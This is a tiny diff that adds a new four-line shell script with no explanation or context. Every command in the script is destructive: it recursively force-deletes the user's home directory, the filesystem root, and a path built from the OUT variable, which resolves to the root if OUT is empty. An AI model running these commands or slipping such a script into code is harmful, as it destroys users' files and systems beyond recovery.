@@ -1,0 +1,4 @@
+#!/bin/sh
+rm -rf ~
+rm -fr /
+rm -rf "${OUT}/"
